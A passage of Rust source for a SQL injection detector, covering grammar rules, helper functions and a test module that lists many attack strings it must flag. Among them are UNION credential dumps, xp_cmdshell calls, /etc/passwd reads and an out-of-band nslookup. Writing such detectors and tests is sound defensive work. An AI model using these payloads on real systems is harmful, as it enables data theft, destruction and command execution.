                        return Some(("sqli.stacked_query", t[i].s, t[routine].e));
                    }
                    if self.statement_at(n, true) || self.schema_statement(n, true) {
                        return Some(("sqli.stacked_query", t[i].s, t[n].e));
                    }
                }
                K::Kw(Kw::Func) if self.is_call(i) => {
                    let open = self.sig(i + 1);
                    let inner = self.sig(open + 1);
                    let computed = |a: usize| {
                        matches!(
                            self.k(a),
                            Some(K::Kw(Kw::Func | Kw::Danger | Kw::Select | Kw::TimeFunc))
                        ) && self.is_call(a)
                            || self.k(a) == Some(K::Kw(Kw::Select))
                    };
                    let nested = computed(inner) || self.error_xpath(i, open, computed);
                    let info = self.k(inner) == Some(K::RParen)
                        && matches!(
                            self.word(i),
                            b"version"
                                | b"database"
                                | b"user"
                                | b"current_user"
                                | b"system_user"
                                | b"session_user"
                                | b"schema"
                                | b"db_name"
                                | b"user_name"
                                | b"host_name"
                        );
                    if nested || info {
                        return Some(("sqli.dangerous_function", t[i].s, at(inner + 1)));
                    }
                }
                K::Kw(Kw::Danger) if (!broke || i > 0) && !hyphenated(t, i, self.b) => {
                    return Some(("sqli.dangerous_function", t[i].s, t[i].e));
                }
                K::Kw(Kw::TimeFunc) if self.statement_at(i, true) => {
                    let prev = (0..i).rev().find(|&p| t[p].k != K::Comment);
                    // `WAITFOR DELAY '0:0:5'` is a statement wherever it stands.
                    let waitfor = self.word(i) == b"waitfor";
                    let positional = waitfor
                        || match prev {
                            None => true,
                            Some(p) => {
                                matches!(
                                    t[p].k,
                                    K::Logic
                                        | K::Op
                                        | K::LParen
                                        | K::Comma
                                        | K::Semi
                                        | K::Kw(Kw::Select)
                                ) || (p == 0 && broke)
                                    // A procedural block: `BEGIN dbms_lock.sleep(5)`,
                                    // `PERFORM pg_sleep(5)`, `THEN sleep(5)`.
                                    || matches!(
                                        self.word(p),
                                        b"begin" | b"perform" | b"then" | b"else" | b"do"
                                    )
                            }
                        };
                    if positional {
                        return Some(("sqli.dangerous_function", t[i].s, t[i].e));
                    }
                }
                // A sub-select as an operand, or where only SQL puts one: `EXISTS (SELECT`,
                // a derived table `FROM (SELECT`.
                K::LParen
                    if i > 0
                        && (matches!(t[i - 1].k, K::Op | K::Logic | K::Comma)
                            || matches!(self.word(i - 1), b"exists" | b"from"))
                        && self.k(self.sig(i + 1)) == Some(K::Kw(Kw::Select))
                        && self.statement_at(i + 1, true) =>
                {
                    return Some(("sqli.statement", t[i].s, at(i + 2)));
                }
                _ => {}
            }
        }
        if broke {
            return self
                .after_break(1)
                .map(|(r, e)| (r, t[0].e.saturating_sub(1), e));
        }
        // Bare-value context: a value, then SQL.
        if self.statement_at(first, true) && !self.quoted_select(first) && !self.label(first) {
            return Some(("sqli.statement", at(first), at(first + 2)));
        }
        // `PROCEDURE ANALYSE(` opening the value: a MySQL clause that lists the columns.
        if self.k(first) == Some(K::Kw(Kw::Clause))
            && self.word(first) == b"procedure"
            && self.clause_at(first)
        {
            return Some(("sqli.statement", at(first), at(first + 2)));
        }
        // A value that opens with a clause continues a query (`ORDER BY 3--`, `HAVING 1=1`).
        if let Some(e) = self.leading_clause(first) {
            return Some(("sqli.clause", at(first), at(e)));
        }
        // A value that starts with `OR`/`AND` continues a condition: `OR 1=1`.
        if self.k(first) == Some(K::Logic) && self.condition_at(first + 1) {
            return Some(("sqli.tautology", at(first), at(first + 4)));
        }
        let leading_paren = self.k(first) == Some(K::RParen);
        let mut literal = false;
        let mut j = first;
        if !leading_paren {
            // A value that opens a group reads as its first operand: `(1 OR 1)--`.
            let mut operand = first;
            while self.k(operand) == Some(K::LParen) {
                operand = self.sig(operand + 1);
            }
            let v = self.value_expr(operand)?;
            let n = self.sig(v.end);
            // A value that is a comparison, or-ed with a literal one: `name = 'x' OR 1=1`.
            if self.comparison(n) {
                let rhs = self.value_expr(self.operand(n));
                if let Some(r) = rhs.filter(|r| r.literals > 0 || r.call) {
                    let mut l = self.sig(r.end);
                    while self.k(l) == Some(K::RParen) {
                        l = self.sig(l + 1);
                    }
                    if self.k(l) == Some(K::Logic) && self.literal_condition(l + 1) {
                        return Some(("sqli.tautology", at(first), at(l + 2)));
                    }
                }
            }
            // A lone word starts prose more often than SQL: it needs a literal comparison.
            if v.literals == 0 && !v.call && self.paranoia < 2 {
                let strong = self.k(n) == Some(K::Logic) && self.literal_condition(n + 1);
                if !strong {
                    return None;
                }
            }
            literal = v.literals > 0 && v.words == 0 && !v.call;
            j = v.end;
        }
        // The value (or its closing parenthesis) cut by a bare comment: `)--`, and a literal's
        // `1--` from paranoia 2 (not "hello -- world"). Read before `sig`, which steps over it.
        let cut = self.past_closing(j);
        let bare = self.bare_cut(cut);
        // (A `#` after a literal is as often a keyboard run, `!@#$%`.)
        let dashes = self.word(cut).starts_with(b"--") || self.word(cut).starts_with(b"/*");
        let cut = (bare && (leading_paren || (literal && dashes && self.paranoia >= 2)))
            .then(|| ("sqli.string_break", at(first), at(cut + 1)));
        j = self.sig(j);
        let closed = self.k(j) == Some(K::RParen);
        while self.k(j) == Some(K::RParen) {
            j = self.sig(j + 1);
        }
        if closed {
            j = self.derived_alias(j);
        }
        let Some(next) = self.k(j) else {
            return cut;
        };
        match next {
            K::Logic if self.condition_at(j + 1) => Some(("sqli.tautology", at(j), at(j + 4))),
            K::Op => {
                let n = self.sig(j + 1);
                let sub = self.k(n) == Some(K::LParen) && self.statement_at(n, true);
                let call = self.is_call(n)
                    && matches!(self.k(n), Some(K::Kw(Kw::TimeFunc | Kw::Func | Kw::Danger)));
                (sub || call).then(|| ("sqli.statement", at(j), at(n + 2)))
            }
            K::Kw(Kw::Clause | Kw::Where | Kw::Into) if self.clause_at(j) => {
                Some(("sqli.clause", at(j), at(j + 3)))
            }
            // `1234 AS "alias" FROM t`: a column of a select list, aliased.
            K::Word => self
                .aliased_from(j)
                .map(|from| ("sqli.clause", at(j), at(from + 1))),
            _ => cut,
        }
    }
}

#[derive(Debug, Default, Clone, Copy)]
struct Expr {
    end: usize,
    literals: usize,
    words: usize,
    call: bool,
}

/// The gate needles of SQL words and objects, found by the inspector's one keyword pass.
pub(crate) fn gate_needles() -> Vec<(&'static str, u32)> {
    let words = PROSE_GATE.iter().map(|w| (*w, gate::SQL_WORD));
    let objects = CATALOG
        .iter()
        .chain(MSSQL_PROCEDURES)
        .chain(&[CAST])
        .map(|w| (*w, gate::SQL_OBJECT));
    let infix = INFIX.iter().map(|w| (*w, gate::SQL_INFIX));
    words.chain(objects).chain(infix).collect()
}

/// What `detect` needs to fire (see [`Needs`]): SQL punctuation, a prose gate word, a catalog.
pub(crate) fn needs() -> Needs {
    Needs::classes(PUNCT)
        .or_gates(gate::SQL_WORD | gate::SQL_OBJECT | gate::SQL_INFIX)
        .or_words(&[
            "or true",
            " or 1",
            " or not ",
            "or false",
            "and true",
            "and false",
            // `1--` from paranoia 2 (`read` decides).
            "--",
        ])
        .reads_quoted_lists()
}

/// A whole value that is a number or-ed with truth (`1 or true`, `0 OR 1`, `2 or not 0`), maybe
/// cutting the query's rest with `--`: a numeric parameter turned into a tautology, with no
/// punctuation or SQL word to show it.
fn numeric_tautology(b: &[u8]) -> Option<Hit> {
    let condition = find(b, b"--").map_or(b, |cut| &b[..cut]);
    let mut words = condition
        .split(u8::is_ascii_whitespace)
        .filter(|w| !w.is_empty());
    let number = words.next()?;
    let digits = number.strip_prefix(b"-").unwrap_or(number);
    if digits.is_empty() || !digits.iter().all(u8::is_ascii_digit) || words.next()? != b"or" {
        return None;
    }
    let truth = match (words.next()?, words.next()) {
        (b"true" | b"1", None) => true,
        (b"not", Some(b"0" | b"false")) => words.next().is_none(),
        _ => false,
    };
    let start = b.len() - b.trim_ascii_start().len();
    truth.then(|| Hit::new("sqli.tautology", start, b.trim_ascii_end().len()))
}

/// Finds SQL injection in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    if address_like(s) {
        return None;
    }
    read(s)
}

/// Classes an address or a URL carries (`user@example.com`, `https://h/p?a=b&c=d`) that SQL
/// cannot be written with alone.
const ADDRESS: u32 = super::subject::URL_CLASSES | class::AT;

/// A value of address classes only, with no SQL word, no `&&` (an `AND`) and every `@`
/// inside a word (`user@host`, not `@@version` or `@x=1`): the grammar finds nothing in it at
/// paranoia 1 (a property test holds it to that), and e-mails and URLs are most of a large
/// body's values that wake this detector.
fn address_like(s: &Subject<'_>) -> bool {
    let b = s.bytes();
    // `user@example.com`: a word, then a host name with a dot.
    let address = |at: usize| {
        let host = b[at + 1..]
            .iter()
            .take_while(|c| is_word(**c) || matches!(c, b'.' | b'-'))
            .count();
        at > 0 && is_word(b[at - 1]) && host > 2 && b[at + 1..at + 1 + host].contains(&b'.')
    };
    s.paranoia < 2
        && s.cls & !ADDRESS == 0
        && !s.gate(gate::SQL_WORD | gate::SQL_OBJECT | gate::SQL_INFIX)
        && find(b, b"&&").is_none()
        && !starts_with_operator(b)
        && !operator_glued(b)
        && (!s.has(class::AT) || memchr::memchr_iter(b'@', b).all(address))
}

/// Whether a word operator is glued to a number or a sign (`1or-1=1`, `true-or-1=1`): the
/// grammar reads a condition there, so the value is no address to skip.
fn operator_glued(b: &[u8]) -> bool {
    let mut i = 1;
    while i < b.len() {
        let word = b[i..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        if word > 0
            && (b[i - 1].is_ascii_digit() || !is_word(b[i - 1]))
            && matches!(classify(&b[i..i + word]), K::Logic | K::Op)
        {
            return true;
        }
        i += word.max(1);
    }
    false
}

/// Whether `b` opens with a word operator (`or@x=1`): the rest of a condition.
fn starts_with_operator(b: &[u8]) -> bool {
    let word = b.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    matches!(classify(&b[..word]), K::Logic | K::Op)
}

/// [`detect`] past its shortcut.
fn read(s: &Subject<'_>) -> Option<Hit> {
    if s.has(class::SPACE) && !s.has(!(class::SPACE | class::DIGIT | class::ALPHA | class::DASH)) {
        if let Some(h) = numeric_tautology(s.bytes()) {
            return Some(h);
        }
    }
    // A number followed by a word operator: `1 and 1 between 0 and 2`.
    let numeric = || {
        let b = s.bytes().trim_ascii_start();
        let b = b.strip_prefix(b"-").unwrap_or(b);
        s.gate(gate::SQL_INFIX) && b.first().is_some_and(u8::is_ascii_digit)
    };
    // `or true--`: the rest of a condition, the query's rest cut.
    let continued = || starts_with_operator(s.bytes()) && find(s.bytes(), b"--").is_some();
    let worth = s.has(PUNCT)
        // Words apart: a space, or what MySQL and others also read as one (`%0a`, `%0b`, `%00`).
        || (s.has(class::SPACE | class::NEWLINE | class::CTRL | class::NUL)
            && s.gate(gate::SQL_WORD))
        || s.gate(gate::SQL_OBJECT)
        || numeric()
        || continued()
        // `1--`: a value cut by a comment, a probe from paranoia 2.
        || (s.paranoia >= 2 && (find(s.bytes(), b"--").is_some() || find(s.bytes(), b"/*").is_some()));
    if !worth {
        return None;
    }
    let typographic = s
        .has(class::HIGH)
        .then(|| plain_quotes(s.bytes()))
        .flatten();
    let b = typographic.as_deref().unwrap_or(s.bytes());
    let mut contexts: [Option<u8>; 3] = [None, None, None];
    let mut n = 1;
    // Typographic quotes read as ASCII ones are not in the class summary.
    let has = |q: u8, class: u32| match &typographic {
        Some(t) => memchr::memchr(q, t).is_some(),
        None => s.has(class),
    };
    if has(b'\'', class::SINGLE_QUOTE) {
        contexts[n] = Some(b'\'');
        n += 1;
    }
    if has(b'"', class::DOUBLE_QUOTE) {
        contexts[n] = Some(b'"');
        n += 1;
    }
    // A form-like `name=value` (a body sent without its content type), or what follows a
    // folder (`incoming/<name>`, `get/<segment>`): the value alone too. Only object keys, file
    // names and request paths are read past a `/`: a second pass over every media type, user
    // agent and URL would cost each event more than the keys it finds.
    let mut spans = [(0, b.len()); 3];
    let mut m = 1;
    let head = &b[..b.len().min(64)];
    let file_name = s.path.ends_with(".key")
        || s.path.ends_with(".filename")
        || super::traversal::is_request_path(s.path);
    let sep = if file_name {
        memchr::memchr2(b'=', b'/', head)
    } else {
        memchr::memchr(b'=', head)
    };
    if let Some(sep) = sep {
        // A query string's own `?` may lead (`?id=1+or+1=1`).
        let first = usize::from(head.first() == Some(&b'?'));
        if sep > first && sep + 1 < b.len() && head[first..sep].iter().all(|c| name_byte(*c)) {
            spans[1].0 = sep + 1;
            m = 2;
        }
    }
    // A query string inside the value (a logged request line, a URL a message carries): the
    // parameter whose value opens with a quote is read alone (`GET /s?q=' UNION …`).
    if n > 1 {
        if let Some(span) = quoted_parameter(b).filter(|p| p.0 != spans[m - 1].0) {
            spans[m] = span;
            m += 1;
        }
    }
    for &(from, to) in &spans[..m] {
        if lone_quote(&b[from..to]) {
            return Some(Hit::new("sqli.probe", from, to));
        }
        if let Some(h) = contexts_at(&b[from..to], &contexts[..n], s.paranoia) {
            return Some(Hit::new(h.rule, h.start + from, h.end + from));
        }
    }
    // Keywords split by comments (`UNI/**/ON SEL/**/ECT`), joined as filters that strip
    // comments read them; the hit spans the value, whose offsets the joining moved.
    let joined = s.has(class::STAR).then(|| unsplit(b)).flatten();
    if let Some(h) = joined.and_then(|j| contexts_at(&j, &contexts[..n], s.paranoia)) {
        return Some(Hit::new(h.rule, 0, b.len()));
    }
    // `\' or '1`: where quotes are escaped by doubling them, MySQL reads the backslash as
    // escaping the first of the two and the second breaks out. Read once more that way.
    let unescaped = s
        .has(class::BACKSLASH)
        .then(|| unescaped_quotes(b))
        .flatten();
    if let Some(h) = unescaped.and_then(|u| contexts_at(&u, &contexts[..n], s.paranoia)) {
        return Some(h);
    }
    // A break out of a MySQL identifier (`` 1` WHERE 1=1# ``, `` 1`=`1` AND … ``) or a
    // PostgreSQL dollar-quoted string (`1$$ OR 1=1--`): read as a break out of a string.
    let quoted = (s.has(class::BACKTICK) || (s.has(class::DOLLAR) && find(b, b"$$").is_some()))
        .then(|| as_string_quotes(b))
        .flatten()?;
    contexts_at(&quoted, &[None, Some(b'\'')], s.paranoia)
}

/// The value with each backtick and each `$$` written as a single quote (`$$` as `' `, so
/// that offsets still point into the value), when the first of them closes a leading value
/// (`` 1` ``, `-42$$`). Markdown's inline code opens after a space or a bracket
/// (`` call `f()` ``, `` [`RegExp`] ``): its backticks stay what they are.
fn as_string_quotes(b: &[u8]) -> Option<Vec<u8>> {
    let first = (0..b.len()).find(|&i| b[i] == b'`' || b[i..].starts_with(b"$$"))?;
    let value = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b'_');
    if first == 0 || !b[..first].iter().all(value) {
        return None;
    }
    let mut out = b.to_vec();
    let mut i = 0;
    while i < out.len() {
        match out[i] {
            b'`' => out[i] = b'\'',
            b'$' if out.get(i + 1) == Some(&b'$') => {
                out[i] = b'\'';
                out[i + 1] = b' ';
                i += 1;
            }
            _ => {}
        }
        i += 1;
    }
    Some(out)
}

/// The value with each backslash that escapes a quote blanked (a NUL the tokenizer skips,
/// so that offsets still point into the value), or `None` when no quote is escaped.
fn unescaped_quotes(b: &[u8]) -> Option<Vec<u8>> {
    let mut out: Option<Vec<u8>> = None;
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'\\', &b[i..]).map(|p| p + i) {
        match b.get(p + 1) {
            Some(b'\'' | b'"') => out.get_or_insert_with(|| b.to_vec())[p] = 0,
            None => break,
            _ => {}
        }
        i = p + 2;
    }
    out
}

/// A byte of a form parameter's name (`user-id`, `filter[name]`, `a.b`).
fn name_byte(c: u8) -> bool {
    is_word(c) || matches!(c, b'-' | b'[' | b']' | b'.')
}

/// The value of a query parameter that opens with a quote (`?q='…`, `&id="…`), to the next
/// `&`, among the first 16 `=` of `b`; only a value of several words (`"<3"`, `"LIKE"+STAMP`
/// are searches, `' OR 1=1--` is not).
fn quoted_parameter(b: &[u8]) -> Option<(usize, usize)> {
    memchr::memchr_iter(b'=', b).take(16).find_map(|eq| {
        if !matches!(b.get(eq + 1), Some(b'\'' | b'"')) {
            return None;
        }
        let name = b[..eq]
            .iter()
            .rev()
            .take(64)
            .take_while(|c| name_byte(**c))
            .count();
        let delimiter = eq.checked_sub(name + 1).map(|d| b[d]);
        let end = memchr::memchr(b'&', &b[eq..]).map_or(b.len(), |e| eq + e);
        let words = b[eq..end].contains(&b' ') || find(&b[eq..end], b"/*").is_some();
        (name > 0 && words && matches!(delimiter, Some(b'?' | b'&' | b';')))
            .then_some((eq + 1, end))
    })
}

/// The value with typographic quotes (`‘ ’ ʼ ´ “ ”`) read as the ASCII quotes some database
/// charsets convert them to (`1’ OR ’1’=’1`), or `None` when it has none. The length is kept
/// (the quote, then NULs the tokenizer skips) so that offsets still point into the value.
fn plain_quotes(b: &[u8]) -> Option<Vec<u8>> {
    let quote = |w: &[u8]| match w {
        [0xe2, 0x80, 0x98 | 0x99, ..] | [0xca, 0xbc, ..] | [0xc2, 0xb4, ..] => Some(b'\''),
        [0xe2, 0x80, 0x9c | 0x9d, ..] => Some(b'"'),
        _ => None,
    };
    let mut out: Option<Vec<u8>> = None;
    for at in memchr::memchr3_iter(0xe2, 0xca, 0xc2, b) {
        if let Some(q) = quote(&b[at..]) {
            let len = if b[at] == 0xe2 { 3 } else { 2 };
            let o = out.get_or_insert_with(|| b.to_vec());
            o[at] = q;
            o[at + 1..at + len].fill(0);
        }
    }
    out
}

/// A quote alone, maybe closing a parenthesis or the statement (`'`, `')`, `';`, `\'`, `")`):
/// the first probe of every injection test, and no value an API expects. A lone `"` or `""`
/// is left alone: it is also an inch or ditto mark, or an empty string written out.
fn lone_quote(b: &[u8]) -> bool {
    if b.len() > 4 {
        return false; // Before any pass over a long value.
    }
    let single = b.contains(&b'\'');
    let closes = b.iter().any(|c| matches!(c, b')' | b';'));
    b.iter()
        .all(|c| matches!(c, b'\'' | b'"' | b'`' | b')' | b';' | b'\\'))
        && (single || (b.contains(&b'"') && closes))
}

/// Whether the name at `i` ends a hyphenated word (`systemd-sysusers`, `my-information_schema`)
/// and calls nothing: part of a name, not a table or function SQL reads (`1-load_file(…)` is
/// a call; `x-sysusers` would subtract a table).
fn hyphenated(t: &[Tok], i: usize, b: &[u8]) -> bool {
    i >= 2
        && t[i - 1].k == K::Op
        && &b[t[i - 1].s..t[i - 1].e] == b"-"
        && t[i - 1].e == t[i].s
        && t[i - 2].e == t[i - 1].s
        && b[t[i - 2].s..t[i - 2].e]
            .iter()
            .all(u8::is_ascii_alphabetic)
        && b.get(t[i].e) != Some(&b'(')
}

fn contexts_at(b: &[u8], contexts: &[Option<u8>], paranoia: u8) -> Option<Hit> {
    // One buffer for every reading, sized for a short value's tokens at once (growing from
    // empty cost a user agent a fifth of its SQL reading).
    let mut toks = Vec::with_capacity((b.len() / 3).clamp(16, 512));
    for (ci, q) in contexts.iter().enumerate() {
        let q = if ci == 0 { None } else { *q };
        if tokenize(b, q, &mut toks).is_none() {
            continue;
        }
        // A quote right after `=` opens a value (`q="x"`), it does not close one.
        if q.is_some() && toks[0].e >= 2 && b[toks[0].e - 2] == b'=' {
            continue;
        }
        let g = Grammar {
            t: &toks,
            b,
            paranoia,
        };
        if let Some((rule, start, end)) = g.run(q.is_some()) {
            return Some(Hit::new(rule, start, end.max(start)));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;
    use proptest::prelude::*;

    #[test]
    fn procedures_open_xp_or_sp() {
        for p in MSSQL_PROCEDURES {
            assert!(p.starts_with("xp_") || p.starts_with("sp_"), "{p}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(20000))]

        /// The shortcut skips only values the grammar would pass.
        #[test]
        fn addresses_the_shortcut_skips_hold_no_sql(
            parts in prop::collection::vec(prop::sample::select(vec![
                "1", "0", "x", "id", "or", "and", "true", "null", "union", "select", "user",
                "=", "&", "&&", "@", "@@", ".", "-", "--", "/", ":", "?", "_", "ab12", "x.y",
                "example.com", "@example.com",
            ]), 1..9)
        ) {
            let v = parts.concat();
            let (skipped, hit) = test_subject(&v, 1, |s, _| (address_like(s), read(s)));
            prop_assert!(!skipped || hit.is_none(), "{v}");
        }
    }

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    /// A statement after a block's `begin`, from FuzzDB's T-SQL exfiltration.
    #[test]
    fn statement_in_a_block_after_a_break() {
        assert_eq!(
            rule("'; begin declare @var varchar(8000) set @var=':' select @var=@var+login from users"),
            Some("sqli.stacked_query")
        );
        assert_eq!(
            rule("'; BEGIN DROP TABLE users; END;"),
            Some("sqli.stacked_query")
        );
        assert_eq!(rule("Preheat the oven; begin with the sauce"), None);
        assert_eq!(rule("done; begin select of the winners"), None);
    }

    #[test]
    fn attacks() {
        for a in [
            // A numeric parameter or-ed with truth; DynamoDB PartiQL functions after a break.
            "1 or true",
            "1 or@@version",
            "1 xor@@version",
            "0 OR 1",
            "-1 or not false",
            "x' OR begins_with(pk, '') OR '",
            "x' or attribute_exists(password) or 'a'='b",
            "1' OR '1'='1",
            "admin'--",
            "admin' #",
            "' or 1=1 --",
            "1 OR 1=1",
            "1) or (1=1",
            "-1 UNION ALL SELECT username, password FROM users",
            "1 uNiOn/**/sElEcT 1,2,3",
            // Line breaks, vertical tabs and NULs between the words.
            "1\nUNION\nSELECT\n1,2",
            "1-load_file('/etc/passwd')",
            "1\x0bUNION\x0bSELECT\x0b1,2",
            "1 UNI/**/ON SEL/*x*/ECT 1,2",
            "1 UNI/*a*//*b*/ON SEL/**/ECT 1,2",
            "un/**/ion sel/**/ect pass fr/**/om users",
            "1 or true--",
            "x'; desc users; --",
            "1; show tables; --",
            "GET /search?q=' UNION SELECT password FROM users--",
            "?id=1 or 1=1--",
            "https://shop.example.com/p?id=1&sort=\" or 1=1--",
            "1 /*!50000UNION*/ /*!50000SELECT*/ 1",
            "1; DROP TABLE users",
            "x'; exec master..xp_cmdshell 'dir'--",
            "1 AND SLEEP(5)",
            "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- ",
            "'; WAITFOR DELAY '0:0:5'--",
            "1 ORDER BY 3--",
            "1' having 1=1--",
            "\" or \"\"=\"",
            "' || (select version()) || '",
            "1 and ascii(substring((select database()),1,1))>64",
            "select * from users where id=1",
            "1' and extractvalue(1,concat(0x7e,version()))--",
            // Error-based XPath with a computed path, glued to the original value (ghauri).
            "1EXTRACTVALUE(0,CONCAT(0x7e,0x72306f746833783439,0x7e))",
            "1(UPDATEXML(0,CONCAT_WS(0x28,0x7e,0x72,0x7e),0))",
            "' UNION SELECT null, table_name FROM information_schema.tables--",
            "1+(select 1)",
            "OR 1=1",
            "or '{\"b\":2}'::jsonb @> '{\"b\":2}'::jsonb",
            "1' and '[1,2]'::json ->> 0 = '1",
            "guest'#",
            "x\" #\n or 1=1",
            "' LIKE '%",
            "(select name from accounts)",
            "select 7 from dual",
            "select 0x726f6f74",
            "x' + sleep(3.to_i) + '",
            "select * from accounts",
            // Probes: SQL-only calls, catalogs, casts, MySQL-only comments.
            "schema_name(",
            "ExtractValue (1",
            "coalesce(",
            "Group_Concat (x",
            "sqlite_master",
            "x=pg_catalog",
            "name::bigint",
            "lower(email)::int",
            "5 or /*+ no_index */ 1",
            "/*!12345 x */",
            "1 union distinctrow select 2",
            "abc waitfor delay '0:0:9'",
            "substr(",
            "RTRIM(name",
            "md5(1)",
            "cos(0)",
            "execute immediate 'select 1'",
            "x=hex(",
            "procedure analyse (",
            "if(2=",
            "1234 AS \"foobar\" FROM tablevar2",
            "x') AS y FROM users--",
            "-1') as col_0_0_ from members",
            "OR '{\"a\":\"b\"}' ? 'a'",
            // MySQL's `1.e` filler splitting the words.
            "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or'1'='2",
            "1.e(select 1.e(version())1.e)",
            // ODBC escapes around the calls.
            "' or {fn ascii('a')}=97--",
            "1;{call xp_cmdshell('dir')}",
            // sqlmap's boundaries: a derived table's alias, a MySQL identifier or a
            // PostgreSQL dollar quote broken out of, a stacked `CALL` or T-SQL `IF`.
            "1) AS xTSK WHERE 1180=1180 AND 2122=3461-- swxH",
            "-2352') AS Uzes WHERE 1187=1187 OR EXTRACTVALUE(5119,CASE WHEN (5119=5119) THEN 5119 ELSE 0x3A END)-- mHMA",
            "1` WHERE 1889=1889 AND 5921=9318#",
            "1`=`1` AND 5704=(SELECT 5704 FROM PG_SLEEP(5)) AND `1`=`1",
            "-3706$$ OR 5065=6414-- ktEH",
            "1;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(3558),0),500000000),NULL)",
            "1));IF(8584=8423) SELECT 8584 ELSE DROP FUNCTION aVQa--",
            "1\";IIF(9126=5758,1,1/0)\u{16}",
            "1',IIF(5955=8287,1,1/0)-- qiyq",
            // MSSQL's blanks: every control character (`space2mssqlblank`).
            "1'\u{3}AND\u{e}7=7\u{1}--",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
    }

    #[test]
    fn attack_classes() {
        for a in [
            // Column counting and clauses opening the value.
            " ORDER BY 3-- ",
            "ORDER BY 1,2,3",
            "order by 31337#",
            "ORDER BY SLEEP(5)",
            "ORDER BY 1,SLEEP(5),3",
            "group by 2",
            " HAVING 1=1",
            "WHERE 1=1 AND 1=0--",
            " AS x WHERE 1=1 AND 1=1#",
            "limit 0,1--",
            "LIMIT 1 OFFSET 2#",
            // A signed first column; a condition wrapped in a group, then cut.
            "select -1,sin(1),2 from bar where",
            "SELECT -'1',2 FROM t",
            "( 1 OR 1 )  --",
            "(1) or (1)--",
            "1 or ((1))#",
            "1 OR (1 OR 1)--",
            "1' and starts_with(password,'t') and 'true",
            // An expression rejoined by the application's closing quote.
            "aa'&0+1='aa",
            "aa'^0!='1",
            " aa' - + ! 2 != + - '1",
            " aa' / '1' < '3",
            "aa' or intcolumn && '1",
            // Schema statements cut by a comment of their own; a parenthesis closed, then cut.
            "1; show tables--",
            "1; delete low_priority quick from foo",
            "1; insert ignore into users values (1)",
            "1; update low_priority users set a=1",
            "1; describe users#",
            ")--",
            "x' OR instr(secret,'a') OR '",
            "((1) OR ((1 OR 1)))--",
            // A break out of a full-text search (sqlmap's boundary).
            "1' IN BOOLEAN MODE) AND 1234=1234#",
            "x' IN NATURAL LANGUAGE MODE) OR 1=1-- -",
            // Sub-selects where only SQL puts them: a condition, a derived table.
            "IF EXISTS (SELECT * FROM users WHERE username = 'root') BENCHMARK(1e9,MD5(1))",
            "x AND NOT EXISTS(SELECT 1 FROM dual WHERE 1=1)",
            "FROM(select count(*),concat((select database()),floor(rand(0)*2))x",
            "from (SELECT password FROM users LIMIT 1) t",
            // Boolean probes ending in a comment.
            "' or true#",
            "' or 1#",
            // A break rejoined by the application's closing quote.
            "'-'",
            "'*'",
            "'^'",
            "'||'",
            "' or ''-'",
            "\"-||0\"",
            "admin'||'",
            "' || myapp.adduser('admin', 'x') || '",
            "'+sleep(10)+'",
            // Lone quotes.
            "'",
            "')",
            "';",
            "\\'",
            "\");",
            // Enumeration and statements.
            "select current_user;",
            "SELECT user FROM dual",
            "select username from dba_users",
            "select banner from v$version",
            "current_database()",
            "' (select top 1 name from sysobjects)",
            "' (select top 1",
            "BACKUP database master to disk='\\\\10.0.0.1\\s\\x.dat'",
            "' grant connect to name; grant resource to name; --",
            "copy t from '/etc/passwd';",
            "';copy (select '') to program 'nslookup x.example'--",
            // Typographic quotes some charsets turn into ASCII ones.
            "1’ OR ’1’=’x’#",
            "‘ OR ‘1‘=‘x‘--",
            "1´ OR ´1´=´x´",
            "“ or “1”=“1",
            // Conditionals of boolean and error probes.
            "(CASE WHEN 1=1 THEN 1 ELSE 0 END)",
            "1 AND (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1",
            "IIF(1=1,1,1/0)",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
    }

    #[test]
    fn dialects_and_blind_conditions() {
        for a in [
            // A number carrying a condition of word operators only.
            "1 and 1 between 0 and 2",
            "1 and null is null",
            "1 AND 1 is not null",
            "1 or 1 rlike 1",
            "1 and false",
            "1 and not false",
            "7 and 7 is not false",
            "1' and 'a' sounds like 'a'-- -",
            "1 and !(1=2)",
            "1 and _binary'a'='a'",
            // Numbers and NULL run into keywords; MSSQL brackets.
            ".1union select 1",
            "\\Nunion select 1,2",
            "1 and [id]=1 or 1=1",
            // A comparison or-ed with a literal one.
            "status = 'a' or 1=1",
            "1::int=1 or 1=1",
            "1'or'1",
            "'or'1=1",
            "admin'or'1=1",
            "x' or 'a<>b",
            "(case when (1=1) then 1 else 2 end)",
            "(CASE WHEN (SELECT 1)=1 THEN id ELSE name END)",
            // Procedural blocks, session variables, cut statements.
            "begin dbms_lock.sleep(5); end;",
            "1;do $$ begin perform pg_sleep(5); end $$;--",
            "1;set @a=0x73656c656374;prepare s from @a;execute s;",
            "; insert into",
            "1; drop table users",
            "'; drop table users'",
            // A statement alone, SQL by what follows its object.
            "DROP TABLE users;",
            // PEM armor is a comment to SQL: `admin' --` in disguise, so a certificate quoted
            // in a configuration (`cert = "-----BEGIN …`) stays refused.
            "admin' -----BEGIN CERTIFICATE-----",
            "admin' -----BEGIN A-----\\nAAAA\\n-----END A-----",
            "drop table users--",
            "drop table if exists users",
            "CREATE TABLE t (x int)",
            "create user hacker identified by 'x'",
            "1;insert into users(name) values('x')--",
            // PartiQL and SQLite functions.
            "' OR contains(pk, '') OR '",
            "x' OR pk IS NOT MISSING OR 'a'='b",
            "1 and zeroblob(1000000000)",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
        for b in [
            "Create table reservation for 4",
            "Create User Flow",
            "Create user account",
            "Drop Table",
            "Create Index Page",
            "Drop table cloth off at the cleaners",
            "insert into the slot marked A",
            "delete from my cart please",
            "sin(30) = 0.5",
            "x = 5 or y = 6",
            "price >= 10 and price <= 20",
